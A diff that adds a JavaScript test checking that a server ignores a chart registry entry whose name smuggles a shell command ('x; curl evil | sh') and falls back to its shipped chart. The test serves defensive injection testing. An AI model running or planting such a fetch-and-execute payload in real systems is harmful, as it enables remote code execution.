@@ -47,6 +47,14 @@ test("without the registry, or with a wrong answer of it, every chart has a ship
   }
 });
 
+test("a chart whose name is a shell command is not used", async () => {
+  registry.answer = ({ url = "" }, response) =>
+    response.writeHead(200).end(url.endsWith(".yaml") ? "name: 'x; curl evil | sh'\nversion: 1.2.3\n" : "{}");
+  const other = await startTestServer({ env: { ROLE: "web", CHART_REGISTRY_URL: `${registry.url}/charts/` } });
+  const answer = await other.fetch("/api/integrations/charts/aws", { headers: { cookie: await other.signIn() } });
+  expect(await answer.json()).toMatchObject({ source: "shipped", chart: expect.stringMatching(/^mission-control/) });
+});
+
 test("an unknown chart is refused with the names of the charts", async () => {
   const { status, body } = await chart("nomad");
   expect(status).toBe(400);
